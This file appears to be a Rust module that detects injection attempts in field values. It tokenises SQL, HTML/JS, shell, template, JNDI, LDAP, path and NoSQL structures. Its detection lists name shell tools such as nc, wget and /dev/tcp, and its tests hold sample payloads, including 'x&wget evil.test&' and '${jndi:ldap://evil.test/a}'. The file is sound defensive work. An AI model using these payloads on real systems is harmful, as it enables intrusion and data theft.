@@ -1,0 +1,736 @@
+//! What a value does in the grammars attackers target (SQL, HTML/JS, shell, templates,
+//! LDAP/JNDI lookups, file paths): small tokenisers that report *structures* (a quote closed
+//! and followed by a condition, a tag, a command after a separator, ...) as bits. A field
+//! learns the structures its normal values have; a value with a structure its field never had
+//! breaks the rules, whatever characters it is made of.
+
+/// One bit per structure, in the order of `NAMES`.
+pub const SQL_QUOTE_CONDITION: u32 = 1 << 0;
+pub const SQL_QUOTE_COMMENT: u32 = 1 << 1;
+pub const SQL_UNION_SELECT: u32 = 1 << 2;
+pub const SQL_STACKED: u32 = 1 << 3;
+pub const SQL_COMMENT_BLOCK: u32 = 1 << 4;
+pub const SQL_TAUTOLOGY: u32 = 1 << 5;
+pub const HTML_TAG: u32 = 1 << 6;
+pub const HTML_HANDLER: u32 = 1 << 7;
+pub const JS_SCHEME: u32 = 1 << 8;
+pub const JS_SINK: u32 = 1 << 9;
+pub const SHELL_COMMAND: u32 = 1 << 10;
+pub const SHELL_SUBSTITUTION: u32 = 1 << 11;
+pub const TEMPLATE: u32 = 1 << 12;
+pub const LOOKUP: u32 = 1 << 13;
+pub const LDAP_FILTER: u32 = 1 << 14;
+pub const PATH_PARENT: u32 = 1 << 15;
+pub const PATH_SYSTEM: u32 = 1 << 16;
+pub const NOSQL_OPERATOR: u32 = 1 << 17;
+pub const ENCODED_LINE_BREAK: u32 = 1 << 18;
+
+/// The name of each structure bit, as reasons show it.
+pub const NAMES: [&str; 19] = [
+    "sql: quote closed then a condition",
+    "sql: quote closed then a comment",
+    "sql: union select",
+    "sql or script: statement after ';'",
+    "sql: comment block",
+    "sql: condition on a number, constant or function",
+    "html: tag",
+    "html: event handler attribute",
+    "js: script url scheme",
+    "js: call of a script sink",
+    "shell: command after a separator",
+    "shell: command substitution",
+    "template: expression",
+    "lookup: ${...:...} expression (jndi, env)",
+    "ldap: filter injection",
+    "path: parent directory",
+    "path: system file",
+    "nosql: query operator",
+    "crlf: encoded line break",
+];
+
+/// The names of the structures in `bits`.
+pub fn names(bits: u32) -> impl Iterator<Item = &'static str> {
+    NAMES
+        .iter()
+        .enumerate()
+        .filter(move |(i, _)| bits & (1 << i) != 0)
+        .map(|(_, n)| *n)
+}
+
+/// Bytes whose presence makes a value worth tokenising; a value without any of them (and
+/// without spaces) has no structure in these grammars.
+fn is_trigger(b: u8) -> bool {
+    matches!(
+        b,
+        b'\''
+            | b'"'
+            | b'<'
+            | b'>'
+            | b';'
+            | b'|'
+            | b'&'
+            | b'$'
+            | b'`'
+            | b'{'
+            | b'}'
+            | b'('
+            | b')'
+            | b'/'
+            | b'\\'
+            | b'%'
+            | b'='
+            | b'#'
+            | b'*'
+            | b'-'
+            | b'.'
+            | b' '
+            | b':'
+    )
+}
+
+/// The structures of `value`.
+pub fn structures(value: &str) -> u32 {
+    let mut has = 0u32;
+    for b in value.bytes() {
+        if is_trigger(b) || b == b'\n' {
+            has |= presence(b);
+        }
+    }
+    // SQL needs no punctuation to be SQL: `shoes union select password from users`.
+    let keywords =
+        has & P_SPACE != 0 && (contains_ci(value, b"union") || contains_ci(value, b"select"));
+    if has & !P_SPACE == 0 && !keywords {
+        return 0;
+    }
+    let lower = value.to_ascii_lowercase();
+    let s = lower.as_str();
+    let mut bits = 0;
+    if keywords || has & (P_QUOTE | P_SEMI | P_EQ | P_LT | P_PAREN | P_STAR) != 0 {
+        bits |= sql(s);
+    }
+    if has & (P_LT | P_EQ | P_COLON | P_PAREN | P_DOT | P_QUOTE) != 0 {
+        bits |= markup(s, has);
+    }
+    if has & (P_SEMI | P_PIPE | P_QUOTE | P_DOLLAR) != 0 {
+        bits |= shell(s);
+    }
+    bits | other(s, has)
+}
+
+fn contains_ci(value: &str, word: &[u8]) -> bool {
+    let b = value.as_bytes();
+    b.iter().enumerate().any(|(i, c)| {
+        c.to_ascii_lowercase() == word[0]
+            && b.get(i..i + word.len())
+                .is_some_and(|w| w.eq_ignore_ascii_case(word))
+    })
+}
+
+/// Which characters of the grammars a value has, one bit per group, so that each scanner
+/// runs only on values that can hold its structures.
+const P_QUOTE: u32 = 1 << 0;
+const P_SEMI: u32 = 1 << 1;
+const P_PIPE: u32 = 1 << 2;
+const P_DOLLAR: u32 = 1 << 3;
+const P_BRACE: u32 = 1 << 4;
+const P_LT: u32 = 1 << 5;
+const P_PAREN: u32 = 1 << 6;
+const P_EQ: u32 = 1 << 7;
+const P_DOT: u32 = 1 << 8;
+const P_SLASH: u32 = 1 << 9;
+const P_PERCENT: u32 = 1 << 10;
+const P_COLON: u32 = 1 << 11;
+const P_STAR: u32 = 1 << 12;
+const P_SPACE: u32 = 1 << 13;
+
+fn presence(b: u8) -> u32 {
+    match b {
+        b'\'' | b'"' | b'`' => P_QUOTE,
+        b';' => P_SEMI,
+        b'|' | b'&' | b'\n' => P_PIPE,
+        b'$' => P_DOLLAR,
+        b'{' | b'}' => P_BRACE,
+        b'<' | b'>' => P_LT,
+        b'(' | b')' => P_PAREN,
+        b'=' => P_EQ,
+        b'.' => P_DOT,
+        b'/' | b'\\' => P_SLASH,
+        b'%' => P_PERCENT,
+        b':' => P_COLON,
+        b'*' | b'#' | b'-' => P_STAR,
+        _ => P_SPACE,
+    }
+}
+
+/// A SQL token, as far as the patterns below need one.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Tok<'a> {
+    Word(&'a str),
+    Num,
+    Quote,
+    Op,
+    Open,
+    Close,
+    Semi,
+    Comment,
+    Other,
+}
+
+fn sql_tokens(s: &str) -> Vec<Tok<'_>> {
+    let b = s.as_bytes();
+    let mut out = Vec::new();
+    let mut i = 0;
+    while i < b.len() {
+        let c = b[i];
+        let start = i;
+        i += 1;
+        let tok = match c {
+            b' ' | b'\t' | b'\r' | b'\n' => continue,
+            b'\'' | b'"' | b'`' => {
+                // An apostrophe inside a word (`don't`) is no quote.
+                let inside = start > 0
+                    && b[start - 1].is_ascii_alphabetic()
+                    && b.get(i).is_some_and(|n| n.is_ascii_alphabetic());
+                if inside && c == b'\'' {
+                    Tok::Other
+                } else {
+                    Tok::Quote
+                }
+            }
+            b'-' if b.get(i) == Some(&b'-') => {
+                i += 1;
+                Tok::Comment
+            }
+            b'#' => Tok::Comment,
+            b'/' if b.get(i) == Some(&b'*') => {
+                i += 1;
+                Tok::Comment
+            }
+            b'=' | b'<' | b'>' | b'!' | b'|' | b'&' | b'+' | b'*' | b'/' | b'-' | b'%' => {
+                while i < b.len() && matches!(b[i], b'=' | b'<' | b'>' | b'|' | b'&') {
+                    i += 1;
+                }
+                Tok::Op
+            }
+            b'(' => Tok::Open,
+            b')' => Tok::Close,
+            b';' => Tok::Semi,
+            b'0'..=b'9' => {
+                while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'.') {
+                    i += 1;
+                }
+                Tok::Num
+            }
+            c if c.is_ascii_alphabetic() || c == b'_' || c == b'@' => {
+                while i < b.len()
+                    && (b[i].is_ascii_alphanumeric() || matches!(b[i], b'_' | b'@' | b'$'))
+                {
+                    i += 1;
+                }
+                Tok::Word(&s[start..i])
+            }
+            _ => Tok::Other,
+        };
+        out.push(tok);
+    }
+    out
+}
+
+const LOGIC: &[&str] = &[
+    "or",
+    "and",
+    "xor",
+    "union",
+    "having",
+    "like",
+    "rlike",
+    "regexp",
+    "order",
+    "group",
+    "limit",
+    "procedure",
+    "into",
+    "between",
+    "is",
+    "in",
+    "not",
+    "div",
+    "waitfor",
+];
+const LITERAL_WORDS: &[&str] = &[
+    "select",
+    "null",
+    "true",
+    "false",
+    "by",
+    "all",
+    "version",
+    "user",
+    "database",
+    "current_user",
+    "@@version",
+    "sleep",
+    "benchmark",
+    "delay",
+];
+/// Functions injected conditions call: delays, error-based extraction, conversions.
+const SQL_FUNCTIONS: &[&str] = &[
+    "sleep",
+    "pg_sleep",
+    "benchmark",
+    "extractvalue",
+    "updatexml",
+    "convert",
+    "cast",
+    "ascii",
+    "substring",
+    "substr",
+    "char",
+    "concat",
+    "load_file",
+    "version",
+    "database",
+    "user",
+    "length",
+    "if",
+    "exists",
+];
+const STATEMENTS: &[&str] = &[
+    "drop", "delete", "insert", "update", "select", "exec", "execute", "shutdown", "declare",
+    "create", "alter", "truncate", "waitfor", "return",
+];
+
+fn sql(s: &str) -> u32 {
+    let t = sql_tokens(s);
+    let mut bits = 0;
+    let skip = |mut j: usize| {
+        while matches!(t.get(j), Some(Tok::Open | Tok::Close)) {
+            j += 1;
+        }
+        j
+    };
+    let literal_at = |j: usize| match t.get(j) {
+        Some(Tok::Quote | Tok::Num) => true,
+        Some(Tok::Word(w)) => LITERAL_WORDS.contains(w) || t.get(j + 1) == Some(&Tok::Open),
+        _ => false,
+    };
+    for i in 0..t.len() {
+        match t[i] {
+            Tok::Quote => {
+                let j = skip(i + 1);
+                match t.get(j) {
+                    Some(Tok::Word(w)) if LOGIC.contains(w) && literal_at(skip(j + 1)) => {
+                        bits |= SQL_QUOTE_CONDITION
+                    }
+                    Some(Tok::Op) if literal_at(skip(j + 1)) => bits |= SQL_QUOTE_CONDITION,
+                    Some(Tok::Comment) => bits |= SQL_QUOTE_COMMENT,
+                    Some(Tok::Semi) => {
+                        if matches!(t.get(j + 1), Some(Tok::Word(w)) if STATEMENTS.contains(w)) {
+                            bits |= SQL_STACKED;
+                        }
+                    }
+                    _ => {}
+                }
+            }
+            Tok::Word("union") => {
+                let j = if t.get(i + 1) == Some(&Tok::Word("all")) {
+                    i + 2
+                } else {
+                    i + 1
+                };
+                if t.get(skip(j)) == Some(&Tok::Word("select")) {
+                    bits |= SQL_UNION_SELECT;
+                }
+            }
+            Tok::Word("select") if i > 0 && t[i - 1] == Tok::Open => bits |= SQL_UNION_SELECT,
+            Tok::Semi
+                if matches!(t.get(i + 1), Some(Tok::Word(w)) if STATEMENTS.contains(w))
+                    && t.get(i + 2).is_some() =>
+            {
+                bits |= SQL_STACKED;
+            }
+            Tok::Word("or" | "and" | "xor" | "having" | "where") => {
+                // `or 1=1`, `and 2>1`, `or true`, `and 1=convert(...)`
+                let j = skip(i + 1);
+                match (t.get(j), t.get(j + 1)) {
+                    (Some(Tok::Num | Tok::Quote), Some(Tok::Op)) if literal_at(skip(j + 2)) => {
+                        bits |= SQL_TAUTOLOGY
+                    }
+                    (Some(Tok::Word("true")), _) => bits |= SQL_TAUTOLOGY,
+                    (Some(Tok::Word(w)), Some(Tok::Open)) if SQL_FUNCTIONS.contains(w) => {
+                        bits |= SQL_TAUTOLOGY
+                    }
+                    _ => {}
+                }
+            }
+            _ => {}
+        }
+    }
+    if let Some(open) = s.find("/*") {
+        if s[open + 2..].contains("*/") {
+            bits |= SQL_COMMENT_BLOCK;
+        }
+    }
+    bits
+}
+
+/// Functions a script payload calls, found before `(` or a backtick.
+const SINK_CALLS: &[&str] = &[
+    "alert",
+    "prompt",
+    "confirm",
+    "eval",
+    "fetch",
+    "settimeout",
+    "setinterval",
+    "import",
+];
+/// Patterns that start at a delimiter, with the structure each marks; `delimited` finds them
+/// all in one pass over a value.
+const DELIMITED: &[(&str, u32)] = &[
+    (".cookie", JS_SINK),
+    (".domain", JS_SINK),
+    (".write(", JS_SINK),
+    (".location", JS_SINK),
+    (".innerhtml", JS_SINK),
+    (".fromcharcode", JS_SINK),
+    (")(", LDAP_FILTER),
+    ("(|(", LDAP_FILTER),
+    ("(&(", LDAP_FILTER),
+    ("(!(", LDAP_FILTER),
+    ("../", PATH_PARENT),
+    ("..\\", PATH_PARENT),
+    ("/..", PATH_PARENT),
+    ("\\..", PATH_PARENT),
+    ("%2e%2e", PATH_PARENT),
+    ("..%2f", PATH_PARENT),
+    ("..%5c", PATH_PARENT),
+    ("%2e./", PATH_PARENT),
+    (".%2e/", PATH_PARENT),
+    ("/etc/", PATH_SYSTEM),
+    ("/etc%2f", PATH_SYSTEM),
+    ("/proc/", PATH_SYSTEM),
+    ("/bin/", PATH_SYSTEM),
+    ("/dev/tcp", PATH_SYSTEM),
+    ("/usr/bin", PATH_SYSTEM),
+    (".ini", PATH_SYSTEM),
+    (":\\windows", PATH_SYSTEM),
+    ("\\windows\\", PATH_SYSTEM),
+    ("/var/log/", PATH_SYSTEM),
+    ("/root/", PATH_SYSTEM),
+    (".ssh/", PATH_SYSTEM),
+    (".htaccess", PATH_SYSTEM),
+    ("$ne", NOSQL_OPERATOR),
+    ("$gt", NOSQL_OPERATOR),
+    ("$lt", NOSQL_OPERATOR),
+    ("$regex", NOSQL_OPERATOR),
+    ("$where", NOSQL_OPERATOR),
+    ("$in", NOSQL_OPERATOR),
+    ("$nin", NOSQL_OPERATOR),
+    ("$exists", NOSQL_OPERATOR),
+    ("$or", NOSQL_OPERATOR),
+    ("$and", NOSQL_OPERATOR),
+    ("$expr", NOSQL_OPERATOR),
+    ("$function", NOSQL_OPERATOR),
+    ("$eq", NOSQL_OPERATOR),
+    ("%0d", ENCODED_LINE_BREAK),
+    ("%0a", ENCODED_LINE_BREAK),
+    ("\\r\\n", ENCODED_LINE_BREAK),
+    ("\\u000d", ENCODED_LINE_BREAK),
+    ("\\u000a", ENCODED_LINE_BREAK),
+];
+
+/// Bytes some pattern of `DELIMITED` starts with.
+const DELIMITERS: u128 = {
+    let mut m = 0u128;
+    let mut i = 0;
+    while i < DELIMITED.len() {
+        m |= 1u128 << DELIMITED[i].0.as_bytes()[0];
+        i += 1;
+    }
+    m
+};
+
+/// The structures of `DELIMITED` in `s`: one pass, comparing only where a pattern can start.
+fn delimited(s: &str) -> u32 {
+    let b = s.as_bytes();
+    let mut bits = 0;
+    for i in 0..b.len() {
+        let c = b[i];
+        if c >= 0x80 || DELIMITERS & (1u128 << c) == 0 {
+            continue;
+        }
+        for (p, bit) in DELIMITED {
+            let p = p.as_bytes();
+            // The first two bytes inline: most delimiters in ordinary text are followed by
+            // something no pattern has.
+            if p[0] == c && b.get(i + 1) == p.get(1) && b[i..].starts_with(p) {
+                bits |= bit;
+            }
+        }
+    }
+    bits
+}
+
+fn markup(s: &str, has: u32) -> u32 {
+    let b = s.as_bytes();
+    let mut bits = 0;
+    for (i, _) in s.match_indices('<').filter(|_| has & P_LT != 0) {
+        let mut j = i + 1;
+        if b.get(j) == Some(&b'/') || b.get(j) == Some(&b'!') {
+            j += 1;
+        }
+        let name_start = j;
+        while b.get(j).is_some_and(|c| c.is_ascii_alphanumeric()) {
+            j += 1;
+        }
+        let named = j > name_start && b[name_start].is_ascii_alphabetic();
+        if named
+            && b.get(j)
+                .is_none_or(|c| matches!(c, b' ' | b'/' | b'>' | b'\t' | b'\n'))
+        {
+            bits |= HTML_TAG;
+        }
+    }
+    for (i, _) in s.match_indices("on").filter(|_| has & P_EQ != 0) {
+        if i > 0 && b[i - 1].is_ascii_alphanumeric() {
+            continue;
+        }
+        let mut j = i + 2;
+        while b.get(j).is_some_and(|c| c.is_ascii_alphabetic()) {
+            j += 1;
+        }
+        let letters = j - i - 2;
+        while b.get(j) == Some(&b' ') {
+            j += 1;
+        }
+        if letters >= 3 && b.get(j) == Some(&b'=') {
+            bits |= HTML_HANDLER;
+        }
+    }
+    let scheme = |i: usize| {
+        let before = &s[..i];
+        ["javascript", "vbscript", "livescript"]
+            .iter()
+            .any(|w| before.ends_with(w))
+            || (before.ends_with("data") && s[i..].starts_with(":text/html"))
+    };
+    if has & P_COLON != 0 && s.match_indices(':').any(|(i, _)| scheme(i)) {
+        bits |= JS_SCHEME;
+    }
+    let call = |i: usize| SINK_CALLS.iter().any(|w| s[..i].ends_with(w));
+    if (has & (P_PAREN | P_QUOTE) != 0 && s.match_indices(['(', '`']).any(|(i, _)| call(i)))
+        || (has & P_DOT != 0 && delimited(s) & JS_SINK != 0)
+    {
+        bits |= JS_SINK;
+    }
+    bits
+}
+
+/// Commands that are no ordinary word: after a separator they are a command.
+const COMMANDS: &[&str] = &[
+    "id",
+    "whoami",
+    "uname",
+    "wget",
+    "curl",
+    "nc",
+    "ncat",
+    "netcat",
+    "bash",
+    "sh",
+    "zsh",
+    "dash",
+    "python",
+    "python3",
+    "perl",
+    "php",
+    "ruby",
+    "powershell",
+    "cmd",
+    "nslookup",
+    "telnet",
+    "chmod",
+    "rm",
+    "base64",
+    "mkfifo",
+    "ifconfig",
+    "systeminfo",
+    "xp_cmdshell",
+    "passwd",
+    "busybox",
+    "tftp",
+    "ls",
+];
+/// Commands that are ordinary words too: a command only with an argument like `-x` or `/x`.
+const WORD_COMMANDS: &[&str] = &[
+    "cat", "sleep", "ping", "echo", "find", "head", "tail", "more", "less", "kill", "touch", "env",
+    "type", "dir", "net", "ps",
+];
+
+fn shell(s: &str) -> u32 {
+    let b = s.as_bytes();
+    let mut bits = 0;
+    for (i, &c) in b.iter().enumerate() {
+        let after = match c {
+            b';' | b'|' | b'&' | b'\n' | b'`' => i + 1,
+            b'$' if b.get(i + 1) == Some(&b'(') => {
+                bits |= SHELL_SUBSTITUTION;
+                i + 2
+            }
+            _ => continue,
+        };
+        let mut j = after;
+        while b
+            .get(j)
+            .is_some_and(|c| matches!(c, b' ' | b'\t' | b'|' | b'&'))
+        {
+            j += 1;
+        }
+        let start = j;
+        while b
+            .get(j)
+            .is_some_and(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'/' | b'.'))
+        {
+            j += 1;
+        }
+        let word = &s[start..j];
+        let base = word.rsplit('/').next().unwrap_or(word);
+        let mut k = j;
+        while b.get(k) == Some(&b' ') {
+            k += 1;
+        }
+        let argument = k > j
+            && b.get(k)
+                .is_some_and(|c| matches!(c, b'-' | b'/' | b'0'..=b'9'));
+        let ends = b
+            .get(j)
+            .is_none_or(|c| matches!(c, b' ' | b';' | b'|' | b'&' | b'`' | b')'));
+        if ends && (COMMANDS.contains(&base) || (WORD_COMMANDS.contains(&base) && argument)) {
+            bits |= SHELL_COMMAND;
+        }
+    }
+    if let Some(open) = s.find('`') {
+        if s[open + 1..].find('`').is_some_and(|n| n > 0) {
+            bits |= SHELL_SUBSTITUTION;
+        }
+    }
+    bits
+}
+
+fn closes(s: &str, open: &str, close: &str) -> bool {
+    s.match_indices(open)
+        .any(|(i, _)| s[i + open.len()..].contains(close))
+}
+
+fn other(s: &str, has: u32) -> u32 {
+    let mut bits = 0;
+    if has & (P_BRACE | P_PERCENT) != 0
+        && (closes(s, "{{", "}}")
+            || closes(s, "{%", "%}")
+            || closes(s, "${", "}")
+            || closes(s, "#{", "}")
+            || closes(s, "*{", "}")
+            || closes(s, "<%", "%>"))
+    {
+        bits |= TEMPLATE;
+    }
+    if has & P_DOLLAR != 0
+        && s.match_indices("${").any(|(i, _)| {
+            let rest = &s[i + 2..];
+            let end = rest.find('}').unwrap_or(rest.len()).min(48);
+            rest[..end].contains(':') || rest.starts_with("${")
+        })
+    {
+        bits |= LOOKUP;
+    }
+    if has & (P_PAREN | P_DOT | P_PERCENT | P_SLASH | P_COLON | P_DOLLAR) != 0 {
+        bits |= delimited(s) & !JS_SINK;
+    }
+    if s == ".." {
+        bits |= PATH_PARENT;
+    }
+    if has & P_COLON != 0 && s.contains("file:/") {
+        bits |= PATH_SYSTEM;
+    }
+    bits
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn has(v: &str, bit: u32) -> bool {
+        structures(v) & bit != 0
+    }
+
+    #[test]
+    fn ordinary_text_has_no_structure() {
+        for v in [
+            "kids' bike",
+            "rock & roll poster",
+            "don't starve board game",
+            "it's a gift: don't open",
+            "Tom & Jerry's flat, 3rd floor",
+            "C++ & Rust developer (he/him)",
+            "I <3 cycling and coffee",
+            "coffee first, questions later...",
+            "100% agree -- well said",
+            "not sure, but try clearing the cache; then log in again",
+            "dog & cat food",
+            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)",
+            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+            "session=0af3; theme=dark",
+            "see @mods' note above",
+            "kids' or adults' bikes",
+            "Q&A thread is here",
+            "café table",
+        ] {
+            assert_eq!(
+                structures(v),
+                0,
+                "{v}: {:?}",
+                names(structures(v)).collect::<Vec<_>>()
+            );
+        }
+    }
+
+    #[test]
+    fn injections_have_their_structure() {
+        let cases: &[(&str, u32)] = &[
+            ("x' or 'a'='a", SQL_QUOTE_CONDITION),
+            ("anna' or 'x", SQL_QUOTE_CONDITION),
+            ("' or ''='", SQL_QUOTE_CONDITION),
+            ("shoes' and sleep(5) and 'a' like 'a", SQL_QUOTE_CONDITION),
+            ("x') or ('a' like 'a", SQL_QUOTE_CONDITION),
+            ("1' ORDER BY 3--+", SQL_QUOTE_CONDITION),
+            ("admin'--", SQL_QUOTE_COMMENT),
+            ("shoes union select password from users", SQL_UNION_SELECT),
+            ("1; drop table orders", SQL_STACKED),
+            ("1/**/UNION/**/SELECT/**/1,2", SQL_COMMENT_BLOCK),
+            ("1 or 1=1", SQL_TAUTOLOGY),
+            ("<script>alert(1)</script>", HTML_TAG | JS_SINK),
+            ("<b onmouseover=alert(1)>x</b>", HTML_HANDLER),
+            ("javascript:alert(1)", JS_SCHEME),
+            ("x; cat /etc/passwd", SHELL_COMMAND | PATH_SYSTEM),
+            ("a&&id", SHELL_COMMAND),
+            ("x&wget evil.test&", SHELL_COMMAND),
+            ("$(id)", SHELL_SUBSTITUTION),
+            ("`id`", SHELL_SUBSTITUTION),
+            ("{{7*7}}", TEMPLATE),
+            ("${jndi:ldap://evil.test/a}", LOOKUP),
+            ("*)(uid=*))(|(uid=*", LDAP_FILTER),
+            ("../../etc/passwd", PATH_PARENT),
+            ("..", PATH_PARENT),
+            ("{\"$ne\": null}", NOSQL_OPERATOR),
+            ("%0d%0aLocation: x", ENCODED_LINE_BREAK),
+        ];
+        for (v, bit) in cases {
+            assert!(
+                has(v, *bit),
+                "{v}: {:?}",
+                names(structures(v)).collect::<Vec<_>>()
+            );
+        }
+    }
+}
